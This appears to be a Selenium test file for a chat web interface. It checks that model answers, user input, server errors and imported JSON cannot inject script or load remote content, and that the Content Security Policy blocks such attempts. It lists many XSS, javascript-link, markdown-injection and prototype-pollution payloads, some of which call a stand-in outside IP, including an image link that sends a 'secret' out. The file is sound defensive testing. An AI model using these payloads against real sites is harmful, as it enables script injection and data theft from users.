"""A model, a person's paste or an imported file that tries to become more than text."""

from __future__ import annotations

import json

import pytest
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.keys import Keys
from web_server import Answer

from mlcrt.serve.page import CONTENT_SECURITY_POLICY

# Everything sets window.pwned, opens a dialog or fetches from elsewhere if it gets through.
ATTACKS = [
    "<script>window.pwned=1;alert(1)</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<style>@import url(http://203.0.113.9/a.css);</style><link rel=stylesheet href=http://203.0.113.9/b.css>",
    "<base href=http://203.0.113.9/><meta http-equiv=refresh content='0;url=http://203.0.113.9/'>",
    "<form action=http://203.0.113.9/><input name=q autofocus onfocus=alert(1)></form>",
    "![pixel](http://203.0.113.9/p.png?c=secret) ![x](x \"y\" onerror=alert(1))",
    "[![nested](http://203.0.113.9/n.png)](javascript:alert(1))",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\\\nscript:alert(1)) [d](&#106;avascript:alert(1))",
    "[e](\x01javascript:alert(1)) [f](vbscript:x) [g](data:text/html,<script>alert(1)</script>) [h](file:///etc/passwd)",
    "<javascript:alert(1)> <data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "[q](http://a\" onmouseover=\"alert(1)) [r](<http://a onclick=alert(1)>) [s](http://a 'onfocus=alert(1)//')",
    "[t](//203.0.113.9/x) [u](/v1/models) [v](#\" onclick=alert(1)) [w](blob:http://x/y) [z](view-source:http://x)",
    "`<img src=x onerror=alert(1)>` **<b onclick=alert(1)>x</b>** ~~<a href=javascript:alert(1)>~~",
    "```html\n<script>window.pwned=1</script>\n```\n~~~\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>\n>   1. [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>\n\n<!-- --!><script>alert(1)</script> <![CDATA[<script>alert(1)</script>]]>",
    "\\(<img src=x onerror=alert(1)>\\) $$<script>alert(1)</script>$$ &lt;script&gt;alert(1)&lt;/script&gt;",
    "<think><img src=x onerror=alert(1)></think><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
    "http://203.0.113.9/\"onmouseover=alert(1) www.example.org/<script>alert(1)</script> \u202ehttp://x.org",
]  # fmt: skip
TAGS = {
    "A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DETAILS", "DIV", "EM", "H3", "H4", "H5", "H6", "HR", "LI", "OL",
    "P", "PRE", "SPAN", "STRONG", "SUMMARY", "TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL",
}  # fmt: skip
ATTRIBUTES = {
    "aria-label", "class", "dir", "href", "referrerpolicy", "rel", "role", "scope", "start", "tabindex", "target",
    "title", "type",
}  # fmt: skip
LOOK = """
    return [...document.querySelectorAll(arguments[0] + ' *')].map((e) =>
        [e.tagName, Object.fromEntries([...e.attributes].map((a) => [a.name, a.value]))]);
"""


def assert_harmless(page, where: str) -> None:
    with pytest.raises(NoAlertPresentException):
        _ = page.driver.switch_to.alert
    assert page.js("return window.pwned") is None
    for tag, attributes in page.js(LOOK, where):
        assert tag in TAGS, f"a {tag} came out"
        assert attributes.keys() <= ATTRIBUTES, f"{tag} has {attributes}"
        if "href" in attributes:
            assert attributes["href"].startswith(("http://", "https://", "mailto:")), attributes
            assert attributes["rel"] == "noopener noreferrer nofollow" and attributes["target"] == "_blank"
    assert (
        page.js(
            "return document.querySelectorAll('main img, main iframe, main script, main style, main form form').length"
        )
        == 0
    )


def assert_plain(page, where: str) -> None:
    """For parts made of the page's own controls: the text added no element and no handler."""
    assert page.js("return window.pwned") is None
    for tag, attributes in page.js(LOOK, where):
        assert tag.upper() in {"BUTTON", "DIV", "H2", "LI", "P", "PATH", "SPAN", "SVG", "UL"}, f"a {tag} came out"
        assert not [name for name in attributes if name.startswith("on") or name in ("src", "href", "style")], (
            attributes
        )


def test_model_text(page, server):
    """Every attack is an answer of its own, arriving in pieces of seven characters; check_traffic looks for fetches."""
    server.next(*map(Answer, ATTACKS))
    for _ in ATTACKS:
        page.ask("x")
    assert_harmless(page, ".turn .words")
    page.press("New conversation")
    text = "\n\n".join(ATTACKS)
    server.next(Answer(text))
    page.ask("all at once")
    page.until(lambda: page.all(".turn.assistant .answer > *"))
    assert_harmless(page, ".turn .words")
    shown = page.find(".turn.assistant .words").get_attribute("textContent")
    for visible in ("<script>window.pwned=1;alert(1)</script>", "<img src=x onerror=window.pwned=1>", "Image: pixel"):
        assert visible in shown  # nothing is swallowed: it is there, as text
    for link in page.all(".turn.assistant a"):
        page.js("arguments[0].dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); arguments[0].focus()", link)
    assert_harmless(page, ".turn .words")
    page.reload()
    page.until(lambda: page.all(".turn.assistant .answer > *"))
    assert_harmless(page, ".turn .words")


def test_user_text_titles_and_search(page):
    attack = "<img src=x onerror=window.pwned=1> <script>alert(1)</script>"
    page.ask(attack)
    assert page.questions == [attack] and page.titles() == [attack]
    assert page.find("#title").text == attack and page.driver.title == f"{attack} · mlcrt"
    page.find("#search").send_keys("onerror")
    assert page.all("#list li .passage") == [] and len(page.titles()) == 1
    page.press(f"Delete “{attack}”")
    assert attack in page.notice()
    assert_plain(page, "#list")
    assert_plain(page, "#notice")


def test_error_messages_of_the_server(page, server):
    server.next(Answer(error={"message": "<img src=x onerror=window.pwned=1>", "type": "server_error"}))
    page.ask("x")
    assert "<img src=x onerror=window.pwned=1>" in page.note()
    assert_harmless(page, ".turn .note")


def test_imported_file(page, tmp_path):
    evil = "<img src=x onerror=window.pwned=1>"
    node = {"id": "n1", "parent": None, "role": "assistant", "content": evil, "model": evil, "state": evil,
            "reason": evil,
            "figures": {"rate": evil, "completion": {}, "__proto__": {"pwned": 1}}, "onclick": "alert(1)"}  # fmt: skip
    conversation = {
        "id": "c1",
        "title": evil,
        "leaf": "n1",
        "nodes": [node],
        "settings": {"system": evil, "seed": evil},
    }
    text = json.dumps({"format": "mlcrt-conversations", "version": 1, "conversations": [conversation]})
    file = tmp_path / "evil.json"
    file.write_text(text[:-1] + ', "__proto__": {"pwned": 1}}')
    page.find("#import-file").send_keys(str(file))
    page.until(lambda: "1 conversation was imported" in page.notice())
    page.find("#list .open").click()
    page.until(lambda: page.answers)
    assert evil in page.answers[0] and evil in page.find(".margin").text
    assert_harmless(page, ".turn .words")
    assert_plain(page, ".turn .margin")
    assert_plain(page, "#list")
    assert page.js("return ({}).pwned") is None


def test_the_policy_is_in_force(page, server):
    """What a hole in the page would try next is refused by the browser, because of the header."""
    events = """
        window.refused = [];
        document.addEventListener('securitypolicyviolation', (e) => window.refused.push(e.effectiveDirective));
        const script = document.createElement('script');
        try { script.textContent = 'window.pwned = 1'; document.body.append(script); }
        catch (e) { window.refused.push('text'); }
        try { document.body.insertAdjacentHTML('beforeend', '<p>x</p>'); } catch (e) { window.refused.push('html'); }
        try { document.querySelector('#empty').innerHTML = '<p>x</p>'; } catch (e) { window.refused.push('inner'); }
        // later, because what the test itself evaluates is exempt from this rule
        setTimeout(() => { try { eval('window.pwned = 1'); } catch (e) { window.refused.push('eval'); } });
        const style = document.createElement('style');
        style.textContent = 'body{color:red}'; document.head.append(style);
        document.body.setAttribute('style', 'color: red');
        try { document.body.setAttribute('onclick', 'window.pwned = 1'); } catch (e) { window.refused.push('handler'); }
        const image = new Image(); image.src = 'http://203.0.113.9/x.png';
        fetch('http://203.0.113.9/x').catch(() => window.refused.push('fetch'));
        document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://203.0.113.9/' }));
    """
    page.driver.execute_script(events)
    expected = {
        "text",
        "html",
        "inner",
        "eval",
        "handler",
        "fetch",
        "style-src-elem",
        "img-src",
        "connect-src",
        "frame-src",
    }
    page.until(lambda: expected <= set(page.js("return window.refused")), "the policy let something through")
    page.find("#empty").click()
    assert page.js("return window.pwned") is None
    assert page.js("return getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
    page.driver.get_log("browser")  # the refusals are logged there as errors, as they should be
    asked, blocked = set(), set()

    def all_blocked() -> bool:  # each is noted twice, the second time a little later
        for entry in page.driver.get_log("performance"):
            message = json.loads(entry["message"])["message"]
            params = message["params"]
            if message["method"] == "Network.requestWillBeSent" and "203.0.113.9" in params["request"]["url"]:
                asked.add(params["requestId"])
            if message["method"] == "Network.loadingFailed" and params.get("blockedReason") == "csp":
                blocked.add(params["requestId"])
        return asked <= blocked

    page.until(all_blocked, "a request left the browser")
    header = page.driver.execute_async_script(
        "const done = arguments[0]; fetch('/').then((r) => done(r.headers.get('content-security-policy')))"
    )
    assert header == CONTENT_SECURITY_POLICY


def test_a_link_leads_out_without_a_trace(page, server):
    server.next(Answer(f"[there]({server.url})"))
    page.ask("link?")
    home = page.driver.current_window_handle
    page.find(".turn.assistant a").send_keys(Keys.ENTER)
    page.until(lambda: len(page.driver.window_handles) == 2)
    page.driver.switch_to.window(next(h for h in page.driver.window_handles if h != home))
    page.until(lambda: page.js("return location.href") == server.url)
    page.ready()
    assert page.js("return [window.opener, document.referrer]") == [None, ""]
    page.driver.close()
    page.driver.switch_to.window(home)
